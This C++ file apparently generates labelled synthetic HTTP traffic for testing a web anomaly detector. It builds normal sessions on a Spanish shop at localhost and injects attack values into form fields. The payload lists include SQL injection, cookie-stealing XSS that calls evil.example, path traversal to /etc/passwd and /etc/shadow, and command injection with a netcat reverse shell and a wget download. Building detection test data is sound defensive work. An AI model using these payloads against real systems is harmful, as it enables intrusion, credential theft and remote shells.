#include "immunizer/replay/generator.hpp"

#include <fstream>
#include <random>
#include <stdexcept>

namespace immunizer::replay {

namespace {

// Word lists written for this project (Spanish, like the shop's pages).
const std::vector<std::string> kProducts = {
    "Vino Rioja",      "Queso Manchego",    "Aceite de oliva", "Turron de Jijona",
    "Jamon Serrano",   "Chorizo de Leon",   "Miel de azahar",  "Pimenton de la Vera",
    "Sidra asturiana", "Mazapan de Toledo", "Cava Penedes",    "Azafran"};
const std::vector<std::string> kFirst = {"Lucia", "Mateo",  "Carmen", "Hugo",   "Elena", "Pablo",
                                         "Marta", "Diego",  "Irene",  "Alvaro", "Nuria", "Javier",
                                         "Rocio", "Sergio", "Ines",   "Adrian"};
const std::vector<std::string> kLast = {"Garcia",  "Lopez",  "Martin",    "Sanchez", "Romero",
                                        "Navarro", "Torres", "Dominguez", "Gil",     "Vazquez",
                                        "Serrano", "Ramos",  "Blanco",    "Molina"};
const std::vector<std::string> kStreets = {"Calle Mayor",  "Avenida de la Paz", "Calle del Sol",
                                           "Plaza Espana", "Calle Real",        "Paseo del Prado",
                                           "Calle Luna",   "Camino Viejo"};
const std::vector<std::string> kCities = {"Toledo", "Leon",   "Soria",  "Teruel",  "Cuenca",
                                          "Lugo",   "Huesca", "Zamora", "Caceres", "Avila"};
const std::vector<std::string> kProvinces = {"Madrid",   "Barcelona", "Valencia", "Sevilla",
                                             "Asturias", "Navarra",   "Burgos",   "Malaga"};
const std::vector<std::string> kDomains = {"correo.es", "ejemplo.com", "buzon.net", "mail.org"};

const char* kHeaders =
    "User-Agent: Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)\n"
    "Pragma: no-cache\n"
    "Cache-control: no-cache\n"
    "Accept: "
    "text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/"
    "*;q=0.5\n"
    "Accept-Encoding: x-gzip, x-deflate, gzip, deflate\n"
    "Accept-Charset: utf-8, utf-8;q=0.5, *;q=0.5\n"
    "Accept-Language: en\n"
    "Host: localhost:8080\n";

std::string enc(const std::string& s) {
  static const char* hex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '*')
      out.push_back(static_cast<char>(c));
    else if (c == ' ')
      out.push_back('+');
    else {
      out.push_back('%');
      out.push_back(hex[c >> 4]);
      out.push_back(hex[c & 15]);
    }
  }
  return out;
}

using Params = std::vector<std::pair<std::string, std::string>>;  // decoded values

std::string encode(const Params& p, const std::vector<bool>* raw = nullptr) {
  std::string out;
  for (size_t i = 0; i < p.size(); ++i) {
    if (i) out.push_back('&');
    out += enc(p[i].first) + "=" + (raw && (*raw)[i] ? p[i].second : enc(p[i].second));
  }
  return out;
}

struct Rng {
  std::mt19937_64 g;
  explicit Rng(uint64_t seed) : g(seed) {}
  size_t below(size_t n) { return static_cast<size_t>(g() % n); }
  int between(int lo, int hi) {
    return lo + static_cast<int>(below(static_cast<size_t>(hi - lo + 1)));
  }
  const std::string& pick(const std::vector<std::string>& v) { return v[below(v.size())]; }
  std::string digits(int n) {
    std::string s;
    for (int i = 0; i < n; ++i) s.push_back(static_cast<char>('0' + below(10)));
    return s;
  }
  std::string session() {
    static const char* hex = "0123456789ABCDEF";
    std::string s;
    for (int i = 0; i < 32; ++i) s.push_back(hex[below(16)]);
    return s;
  }
};

// One form submission or page view: method, path, decoded parameters.
struct Step {
  std::string method, path;
  Params params;
};

Step product_view(Rng& r) {
  return {
      "GET", "/tienda1/publico/caracteristicas.jsp", {{"id", std::to_string(r.between(1, 12))}}};
}

Step add_to_cart(Rng& r) {
  const size_t p = r.below(kProducts.size());
  return {r.below(2) ? "POST" : "GET",
          "/tienda1/publico/anadir.jsp",
          {{"id", std::to_string(p + 1)},
           {"nombre", kProducts[p]},
           {"precio", std::to_string(20 + 7 * static_cast<int>(p))},
           {"cantidad", std::to_string(r.between(1, 12))},
           {"B1",
            "A\xf1"
            "adir al carrito"}}};
}

Step registration(Rng& r, bool edit) {
  const std::string first = r.pick(kFirst), last = r.pick(kLast) + " " + r.pick(kLast);
  std::string login = first.substr(0, 3) + last.substr(0, 3);
  for (auto& c : login) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  Params p = {{"modo", "registro"},
              {"login", login},
              {"password", r.digits(2) + r.pick(kCities).substr(0, 3) + r.digits(1)},
              {"nombre", first},
              {"apellidos", last},
              {"email", login + "@" + r.pick(kDomains)},
              {"dni", r.digits(8) + static_cast<char>('A' + r.below(26))},
              {"direccion", r.pick(kStreets) + " " + std::to_string(r.between(1, 120))},
              {"ciudad", r.pick(kCities)},
              {"cp", std::to_string(r.between(10000, 52999))},
              {"provincia", r.pick(kProvinces)},
              {"ntc", r.digits(16)}};
  if (!edit) p.emplace_back("B1", "Registrar");
  return {r.below(2) ? "POST" : "GET",
          edit ? "/tienda1/miembros/editar.jsp" : "/tienda1/publico/registro.jsp", p};
}

Step login(Rng& r) {
  std::string user = r.pick(kFirst) + r.digits(2);
  for (auto& c : user) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return {r.below(2) ? "POST" : "GET",
          "/tienda1/publico/autenticar.jsp",
          {{"modo", "entrar"},
           {"login", user},
           {"pwd", r.digits(3) + r.pick(kCities)},
           {"remember", r.below(2) ? "on" : "off"},
           {"B1", "Entrar"}}};
}

Step pay(Rng& r) {
  return {r.below(2) ? "POST" : "GET",
          "/tienda1/publico/pagar.jsp",
          {{"modo", "insertar"},
           {"precio", std::to_string(r.between(20, 3000))},
           {"B1", "Pasar por caja"}}};
}

// A browsing session: pages and forms in a plausible order.
std::vector<Step> session_steps(Rng& r) {
  std::vector<Step> s;
  s.push_back({"GET", "/tienda1/index.jsp", {}});
  s.push_back({"GET", "/tienda1/publico/productos.jsp", {}});
  for (int i = 0, n = r.between(1, 3); i < n; ++i) s.push_back(product_view(r));
  for (int i = 0, n = r.between(0, 3); i < n; ++i) s.push_back(add_to_cart(r));
  s.push_back({"GET", "/tienda1/publico/carrito.jsp", {}});
  switch (r.below(4)) {
    case 0:
      s.push_back(registration(r, false));
      break;
    case 1:
      s.push_back(login(r));
      break;
    case 2:
      s.push_back(login(r));
      s.push_back({"GET", "/tienda1/miembros/index.jsp", {}});
      s.push_back(registration(r, true));
      break;
    default:
      s.push_back(
          {"GET", "/tienda1/publico/entrar.jsp", {{"errorMsg", "Credenciales incorrectas"}}});
  }
  if (r.below(3))
    s.push_back(pay(r));
  else
    s.push_back(
        {r.below(2) ? "POST" : "GET", "/tienda1/publico/vaciar.jsp", {{"B2", "Vaciar carrito"}}});
  if (r.below(2)) s.push_back({"GET", "/tienda1/miembros/salir.jsp", {}});
  return s;
}

std::string render(const Step& s, const std::string& session,
                   const std::vector<bool>* raw = nullptr) {
  const std::string q = encode(s.params, raw);
  std::string t = s.method + " http://localhost:8080" + s.path;
  if (s.method == "GET" && !q.empty()) t += "?" + q;
  t += " HTTP/1.1\n";
  t += kHeaders;
  t += "Cookie: JSESSIONID=" + session + "\n";
  if (s.method == "POST") {
    t += "Content-Type: application/x-www-form-urlencoded\nConnection: close\nContent-Length: " +
         std::to_string(q.size()) + "\n\n" + q + "\n\n";
  } else {
    t += "Connection: close\n\n\n";
  }
  return t;
}

std::vector<monitor::csic::Request> normal_traffic(Rng& r, size_t n) {
  std::string text;
  size_t count = 0;
  while (count < n) {
    const std::string sid = r.session();
    for (const auto& st : session_steps(r)) {
      if (count++ == n) break;
      text += render(st, sid);
    }
  }
  return monitor::csic::parse(text);
}

// A form step with one value replaced by an attack of class `cls`.
std::string attack(Rng& r, const std::string& cls, const std::string& session) {
  Step st;
  switch (r.below(5)) {
    case 0:
      st = add_to_cart(r);
      break;
    case 1:
      st = registration(r, r.below(2));
      break;
    case 2:
      st = login(r);
      break;
    case 3:
      st = pay(r);
      break;
    default:
      st = product_view(r);
  }
  std::vector<bool> raw(st.params.size(), false);
  const size_t at = r.below(st.params.size());
  std::string& v = st.params[at].second;
  static const std::vector<std::string> kSqli = {"' OR '1'='1",
                                                 "1; DROP TABLE usuarios; --",
                                                 "' UNION SELECT login, password FROM usuarios --",
                                                 "admin'--",
                                                 "1 AND SLEEP(5)",
                                                 "') OR ('a'='a"};
  static const std::vector<std::string> kXss = {
      "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>",
      "<svg/onload=fetch('//evil.example/'+document.cookie)>", "javascript:alert(1)"};
  static const std::vector<std::string> kTraversal = {
      "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fshadow",
      "/proc/self/environ"};
  static const std::vector<std::string> kCmd = {"; cat /etc/passwd",
                                                "| nc evil.example 4444 -e /bin/sh", "`id`",
                                                "$(reboot)", "&& wget http://evil.example/x.sh"};
  if (cls == "sqli")
    v += r.pick(kSqli);
  else if (cls == "xss")
    v = r.pick(kXss);
  else if (cls == "traversal") {
    v = r.pick(kTraversal);
    raw[at] = v.find('%') != std::string::npos;  // already encoded on purpose
  } else if (cls == "command")
    v += r.pick(kCmd);
  else if (cls == "oversized")
    v = std::string(static_cast<size_t>(r.between(2000, 8000)),
                    static_cast<char>('A' + r.below(26)));
  else if (cls == "malformed") {
    static const std::vector<std::string> kBad = {"%zz%", "%00%00", "%C0%AF", "%FF%FE%FD",
                                                  "\x01\x02\x7f"};
    v = r.pick(kBad);
    raw[at] = v[0] == '%';
  } else {  // tampering: values the forms never send, renamed or extra parameters
    switch (r.below(4)) {
      case 0:
        v = "-" + std::to_string(r.between(1, 99999));
        break;
      case 1:
        st.params[at].first += "A";
        break;
      case 2:
        st.params.emplace_back("admin", "true"), raw.push_back(false);
        break;
      default:
        v = "99999999999999999999";
    }
  }
  return render(st, session, &raw);
}

}  // namespace

const std::vector<std::string>& attack_classes() {
  static const std::vector<std::string> k = {"sqli",      "xss",       "traversal", "command",
                                             "oversized", "malformed", "tampering"};
  return k;
}

GeneratedTraffic generate(const GeneratorOptions& o) {
  Rng r(o.seed);
  GeneratedTraffic g;
  g.training = normal_traffic(r, o.training);
  g.normal = normal_traffic(r, o.normal);
  std::string text;
  for (size_t i = 0; i < o.anomalous; ++i) {
    const std::string& cls = attack_classes()[i % attack_classes().size()];
    text += attack(r, cls, r.session());
    g.attack_class.push_back(cls);
  }
  g.anomalous = monitor::csic::parse(text);
  if (g.anomalous.size() != g.attack_class.size())
    throw std::logic_error("generator: " + std::to_string(g.anomalous.size()) +
                           " attack requests parsed of " + std::to_string(g.attack_class.size()));
  return g;
}

void write_csic(const std::string& file, const std::vector<monitor::csic::Request>& requests) {
  std::ofstream out(file, std::ios::binary);
  if (!out) throw std::runtime_error("cannot write " + file);
  for (const auto& q : requests) {
    out << q.method << ' ' << q.url << (q.version.empty() ? "" : " " + q.version) << '\n';
    for (const auto& [k, v] : q.headers) out << k << ": " << v << '\n';
    out << '\n';
    if (!q.body.empty()) out << q.body << '\n';
    out << '\n';
  }
  if (!out) throw std::runtime_error("cannot write " + file);
}

}  // namespace immunizer::replay
